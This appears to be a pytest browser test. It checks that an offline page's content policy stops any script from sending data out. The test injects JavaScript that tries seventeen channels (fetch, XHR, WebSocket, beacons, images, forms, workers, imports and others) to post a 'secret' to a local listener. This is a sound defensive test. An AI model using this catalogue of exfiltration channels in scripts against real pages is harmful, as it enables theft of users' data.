"""Under the page's policy no byte leaves: a server that listens gets nothing of whatever a script in it tries."""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from browser import browser
from offlinepage import PAGE

pytestmark = [pytest.mark.browser, pytest.mark.usefixtures("built")]

ATTEMPTS = """
const at = "ADDRESS", tried = [];
const attempt = (name, action) => {
  tried.push(name);
  try { Promise.resolve(action()).catch(() => {}); } catch (error) { /* refused */ }
};
const put = (tag, values) => {
  const node = Object.assign(document.createElement(tag), values);
  document.body.append(node);
  return node;
};
attempt("fetch", () => fetch(`${at}/fetch`, { method: "POST", mode: "no-cors", body: "secret" }));
attempt("xhr", () => { const x = new XMLHttpRequest(); x.open("POST", `${at}/xhr`); x.send("secret"); });
attempt("socket", () => new WebSocket(`${at}/socket`.replace("http", "ws")));
attempt("events", () => new EventSource(`${at}/events`));
attempt("beacon", () => navigator.sendBeacon(`${at}/beacon`, "secret"));
attempt("image", () => put("img", { src: `${at}/image?secret` }));
attempt("script", () => put("script", { src: `${at}/script?secret` }));
attempt("inline", () => put("script", { textContent: `fetch("${at}/inline")` }));
attempt("style", () => put("link", { rel: "stylesheet", href: `${at}/style?secret` }));
attempt("prefetch", () => put("link", { rel: "prefetch", href: `${at}/prefetch?secret` }));
attempt("font", () => new FontFace("x", `url(${at}/font?secret)`).load());
attempt("media", () => put("video", { src: `${at}/media?secret`, preload: "auto" }));
attempt("object", () => put("object", { data: `${at}/object?secret` }));
attempt("form", () => {
  const form = put("form", { action: `${at}/form?secret`, method: "post", target: "other" });
  put("iframe", { name: "other" });
  form.submit();
});
attempt("worker", () => new Worker(`${at}/worker?secret`));
attempt("import", () => new Function(`return import("${at}/import?secret")`)());
attempt("inside", () => new Worker(URL.createObjectURL(new Blob([
  `fetch("${at}/inside").catch(() => {});
  try { importScripts("${at}/inside-script"); } catch (e) { /* refused */ }
  new WebSocket("${at.replace("http", "ws")}/inside-socket");`]))));
tried.length
"""


class Listener:
    """A server on this machine that only counts what it is sent."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.address = f"http://127.0.0.1:{self.server.getsockname()[1]}"
        self.received: list[bytes] = []
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self) -> None:
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            threading.Thread(target=self.read, args=(connection,), daemon=True).start()

    def read(self, connection: socket.socket) -> None:
        with connection:
            connection.settimeout(10)
            try:
                if data := connection.recv(4096):
                    self.received.append(data.split(b"\r\n")[0])
                    connection.sendall(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")
            except OSError:
                return


@contextmanager
def listener() -> Iterator[Listener]:
    found = Listener()
    try:
        yield found
    finally:
        found.server.close()


def test_no_byte_leaves_the_page(tmp_path: Path) -> None:
    open_page = tmp_path / "open.html"
    open_page.write_text("<!doctype html><body>no policy</body>", encoding="utf-8")
    with listener() as server, browser(tmp_path / "b") as chromium:
        script = ATTEMPTS.replace("ADDRESS", server.address)
        chromium.open(open_page)
        assert chromium.run(f"(() => {{ {script.replace('tried.length', 'return tried.length')} }})()") == 17
        until = time.monotonic() + 60
        while len(server.received) < 10 and time.monotonic() < until:
            time.sleep(0.1)
        assert len(server.received) >= 10, server.received
        chromium.open(PAGE)
        server.received.clear()
        until = time.monotonic() + 240
        while chromium.run("document.documentElement.dataset.state") != "ready" and time.monotonic() < until:
            time.sleep(0.1)
        assert chromium.run("document.documentElement.dataset.state") == "ready"
        chromium.run(f"(() => {{ {script.replace('tried.length', 'return tried.length')} }})()")
        time.sleep(3)
        assert server.received == []
